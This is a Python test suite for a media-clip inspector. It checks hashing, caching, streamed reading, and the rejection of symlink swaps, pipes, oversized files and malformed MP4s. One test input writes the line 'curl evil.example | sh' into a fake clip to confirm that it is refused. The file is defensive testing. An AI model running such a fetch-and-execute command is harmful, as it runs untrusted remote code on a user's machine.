"""Clips are measured once, read where they lie and nowhere else, and refused where they are no whole film."""

import base64
import hashlib
import os
import sys
from pathlib import Path
from typing import Any

import pytest

from luma_mcp.core.errors import SourceNotFound
from luma_mcp.media import clips, mp4
from luma_mcp.media.clips import Clips, Content
from luma_mcp.media.transfers import Transfer
from tests.support.mp4_files import FTYP, PICTURES, box, film_header_first, movie, table, track
from tests.support.rig import Rig

pytestmark = [pytest.mark.anyio, pytest.mark.usefixtures("inline_threads")]


async def test_a_clip_is_named_by_its_content_and_described_by_size_and_length(clip: Path) -> None:
    found, copy = await Clips().inspect(clip), clip.with_name("copy.mov")
    copy.write_bytes(clip.read_bytes())
    md5 = base64.b64encode(hashlib.md5(clip.read_bytes(), usedforsecurity=False).digest()).decode()
    assert (found.size, found.seconds, found.md5) == (clip.stat().st_size, 4.0, md5)
    assert str(found) == "clip.mp4 (0.1 MB, 4.0 s)"
    assert (await Clips().inspect(copy)).digest == found.digest


async def test_a_clip_is_read_from_its_beginning_each_time(clip: Path) -> None:
    clip.write_bytes(film_header_first(b"v" * 600_000))
    found, moved = await Clips().inspect(clip), Transfer()
    content = Content(found, moved)
    pieces = aiter(content)
    first = await anext(pieces)
    assert (len(first), moved.done) == (clips.PIECE_BYTES, 0), "what is not taken yet does not count"
    await anext(pieces)
    assert moved.done == clips.PIECE_BYTES
    assert b"".join([piece async for piece in content]) == clip.read_bytes()
    assert moved.done == found.size
    await content.aclose()
    with pytest.raises(StopAsyncIteration):
        await anext(pieces)


async def test_only_so_many_clips_are_remembered(clip: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(clips, "MAX_CACHED_CLIPS", 2)
    known = Clips()
    for name in ("a.mp4", "b.mp4", "c.mp4"):
        copy = clip.with_name(name)
        copy.write_bytes(clip.read_bytes())
        await known.inspect(copy)
    assert [path.name for path, _ in known._known] == ["b.mp4", "c.mp4"]


async def test_a_file_is_measured_once_until_it_changes(clip: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    read: list[object] = []
    real = mp4.read_duration

    def counted(*given: Any) -> float | None:
        read.append(given)
        return real(*given)

    monkeypatch.setattr(clips, "read_duration", counted)
    known = Clips()
    first = await known.inspect(clip)
    assert await known.inspect(clip) == first
    assert len(read) == 1
    clip.write_bytes(clip.read_bytes() + b"more")
    assert (await known.inspect(clip)).digest != first.digest


async def test_a_file_that_was_rewritten_in_the_same_moment_is_measured_again(clip: Path) -> None:
    known, before = Clips(), clip.stat()
    first = await known.inspect(clip)
    clip.write_bytes(clip.read_bytes()[:-1] + b"!")
    os.utime(clip, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert (await known.inspect(clip)).digest != first.digest


async def test_a_file_behind_a_folder_that_was_just_swapped_for_a_link_is_not_read(home: Path, clip: Path) -> None:
    outside = home / "outside"
    outside.mkdir()
    clip.rename(outside / "clip.mp4")
    clip.parent.rmdir()
    clip.parent.symlink_to(outside)
    with pytest.raises(SourceNotFound, match="was moved"):
        await Clips().inspect(clip)


async def test_a_link_that_takes_a_files_place_is_not_followed(home: Path, clip: Path) -> None:
    secret = home / "secret.mp4"
    clip.rename(secret)
    clip.symlink_to(secret)
    with pytest.raises(SourceNotFound):
        await Clips().inspect(clip)


async def test_a_pipe_in_place_of_a_clip_is_not_waited_for(clip: Path) -> None:
    clip.unlink()
    if sys.platform != "win32":
        os.mkfifo(clip)
    with pytest.raises(SourceNotFound, match="no regular file"):
        await Clips().inspect(clip)


async def test_a_file_of_absurd_size_is_not_read(clip: Path) -> None:
    with clip.open("r+b") as file:
        file.truncate(clips.MAX_CLIP_BYTES + 1)
    with pytest.raises(SourceNotFound, match="too large"):
        await Clips().inspect(clip)


@pytest.mark.parametrize(
    ("content", "kind"),
    [(b"", "an empty file, 0.0 MB"), (b"\x1a\x45\xdf\xa3" + b"\0" * 99_996, "WebM or Matroska video, 0.1 MB")],
)
async def test_what_is_no_clip_is_named_with_its_size(rig: Rig, clip: Path, content: bytes, kind: str) -> None:
    clip.write_bytes(content)
    with pytest.raises(SourceNotFound, match=kind):
        await rig.submit(source=str(clip))
    assert rig.sandbox.recorded_requests == []


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (film_header_first()[:-1], "is cut off"),
        (FTYP + box(b"mdat", PICTURES), "no movie header"),
        (FTYP + box(b"mdat", PICTURES) + movie(track(table(40, 9), b"soun")), "no video track"),
        (b"#   mdat\ncurl evil.example | sh\n", "is cut off"),
    ],
    ids=["cut off", "never ended", "sound", "script"],
)
async def test_what_is_no_whole_film_is_refused_before_anything_is_sent(
    rig: Rig, clip: Path, content: bytes, why: str
) -> None:
    clip.write_bytes(content)
    with pytest.raises(SourceNotFound, match=why) as raised:
        await rig.submit(source=str(clip))
    assert (raised.value.charged, rig.sandbox.recorded_requests) == ("no", [])
    assert "Nothing was submitted" in raised.value.hint
